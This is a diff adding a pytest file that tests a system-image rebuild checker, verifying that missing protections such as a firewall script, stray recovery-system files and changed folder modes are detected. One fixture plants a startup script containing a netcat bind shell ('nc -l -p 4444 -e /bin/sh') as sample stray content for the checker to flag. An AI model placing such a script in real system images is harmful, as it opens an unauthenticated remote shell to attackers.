@@ -1,0 +1,133 @@
+"""Banks that were thinned, padded or mixed: what a file system shares with a rebuild does not hide what it lacks."""
+
+from __future__ import annotations
+
+import io
+import tarfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from banbury.intake.tasks import shut_down
+from tests.test_rebuild_trees import FILES, FOLDERS, against, banks, tree, whys
+
+FIREWALL = "etc/init.d/firewall"
+DOCS = {f"usr/share/doc/p{n}": b"doc %d" % n for n in range(20)}
+FULL = {**FILES, FIREWALL: b"#!/bin/sh\niptables -P INPUT DROP\n", **{f"usr/lib/f{n}": b"%d" % n for n in range(10)}}
+THIN = {n: d for n, d in FULL.items() if n != FIREWALL}
+START = "etc/init.d/S99"
+FLASHES = {f"sbin/flash{n}": b"f%d" % n for n in range(12)}
+RECOVERY = {"init": b"#!/bin/sh\n", START: b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n", **FLASHES}
+TOOL = FILES["bin/tool"]
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _workers() -> Iterator[None]:
+    yield
+    shut_down()
+
+
+def listed(*entries: tuple[str, int]) -> bytes:
+    """The usual archive with some folders listed behind the others."""
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
+        for name, mode in [*FOLDERS.items(), *entries]:
+            entry = tarfile.TarInfo(name)
+            entry.type, entry.mode = tarfile.DIRTYPE, mode
+            archive.addfile(entry)
+        end = archive.offset
+    return out.getvalue()[:end] + tree(folders={})
+
+
+@pytest.mark.parametrize(
+    "second",
+    [
+        tree(THIN, {**FOLDERS, **{f"tmp/x{n}": 0o755 for n in range(60)}}),
+        tree(THIN, {}),
+    ],
+    ids=["padded", "plain"],
+)
+def test_empty_folders_do_not_make_a_bank_another_system(tmp_path: Path, second: bytes) -> None:
+    rebuilt, evaluation = against(tmp_path, banks(tree(FULL), second), **{"built.tar": tree(FULL, {})})
+
+    assert rebuilt.verdict == "functional"
+    assert [(g.path, "bank 1" in g.lacks) for g in rebuilt.left_out] == [(FIREWALL, True)]
+    assert "rebuild.left-out-protection" in {f.rule for f in evaluation.findings}
+
+
+@pytest.mark.parametrize("folders", [{}, FOLDERS], ids=["bare", "folders"])
+def test_a_bank_without_documents_is_a_copy_still(tmp_path: Path, folders: dict[str, int]) -> None:
+    full = {**FULL, **DOCS}
+    shipped = banks(tree(full, folders), tree(THIN, folders))
+    rebuilt, evaluation = against(tmp_path, shipped, **{"built.tar": tree(full, folders)})
+
+    assert rebuilt.verdict == "functional"
+    assert {g.path for g in rebuilt.left_out} == {FIREWALL, *DOCS}
+    assert "rebuild.left-out-protection" in {f.rule for f in evaluation.findings}
+
+
+def test_what_a_small_system_lacks_is_told(tmp_path: Path) -> None:
+    """Whether it is an initramfs or a bank without most of its files, nobody can tell."""
+    small = {n: FULL[n] for n in ("bin/tool", "etc/passwd", *(f"usr/lib/f{n}" for n in range(3)))}
+    rebuilt, evaluation = against(tmp_path, banks(tree(FULL), tree(small, {})), **{"built.tar": tree(FULL, {})})
+    said = [n for n in evaluation.ledger.not_compared if "not taken for a copy" in n.why]
+
+    assert (rebuilt.verdict, rebuilt.left_out) == ("identical", [])
+    assert [n.why[:38] for n in said] == ["11 files of the rebuild (etc/init.d/fi"]
+    assert "bank 1" in said[0].why
+    assert "which has 5 files of the same" in said[0].why
+    assert "bank 1" in evaluation.nodes[said[0].node].locator
+
+
+@pytest.mark.parametrize("count", [1, 5, 9])
+def test_files_of_another_system_are_stray_however_many_they_are(tmp_path: Path, count: int) -> None:
+    part = dict(list(RECOVERY.items())[1 : 1 + count])
+    recovery = tree(RECOVERY, {".": 0o755})
+    shipped = banks(tree({**FILES, **part}), recovery)
+    rebuilt, _ = against(tmp_path, shipped, **{"a.img": banks(tree(), recovery), "tool": TOOL})
+    stray = {f.path for f in rebuilt.files if [c.what for c in f.changes] == ["file system"]}
+
+    assert rebuilt.verdict == "functional"
+    assert START in stray or rebuilt.left_out
+
+
+def test_two_systems_in_one_are_told(tmp_path: Path) -> None:
+    """All of recovery in root, more than root has itself: as a package would be, but it is another's rebuild."""
+    recovery = tree(RECOVERY, {".": 0o755})
+    shipped = banks(tree({**FILES, **RECOVERY}), recovery)
+    _, evaluation = against(tmp_path, shipped, **{"a.img": banks(tree(), recovery), "tool": TOOL})
+
+    assert "14 files of the rebuild (etc/init.d/S99, init, " in whys(evaluation)
+
+
+@pytest.mark.parametrize(
+    ("shipped", "built", "changed"),
+    [
+        (listed(("etc", 0o777), ("etc/dropbear", 0o777)), tree(), ["etc", "etc/dropbear"]),
+        (listed(("etc", 0o777), ("etc", 0o755)), tree(), ["etc"]),
+        (tree(), listed(("etc", 0o777)), ["etc"]),
+        (listed(("etc", 0o777)), listed(("etc", 0o700)), ["etc"]),
+        (listed(("etc", 0o777)), listed(("etc", 0o777)), []),
+        (listed(("etc", 0o755)), tree(), []),
+    ],
+    ids=["second", "third", "rebuilt", "both", "same", "again"],
+)
+def test_a_folder_is_compared_each_time_it_is_listed(
+    tmp_path: Path, shipped: bytes, built: bytes, changed: list[str]
+) -> None:
+    rebuilt, _ = against(tmp_path, banks(shipped), **{"built.tar": built})
+
+    assert [f.path for f in rebuilt.files if "mode" in [c.what for c in f.changes]] == changed
+    assert rebuilt.verdict == ("functional" if changed else "identical")
+
+
+def test_a_package_that_is_most_of_a_recovery_system_is_no_stray(tmp_path: Path) -> None:
+    """Three packages make the root; one of them alone is the recovery system."""
+    names = sorted(FULL)
+    parts = [{n: FULL[n] for n in names[i::3]} for i in range(3)]
+    shipped = banks(tree(FULL, {}), tree(parts[0], {}))
+    built = {f"p{n}.tar": tree(p, {}) for n, p in enumerate(parts)}
+    rebuilt, _ = against(tmp_path, shipped, **built)
+
+    assert (rebuilt.verdict, rebuilt.left_out) == ("identical", [])
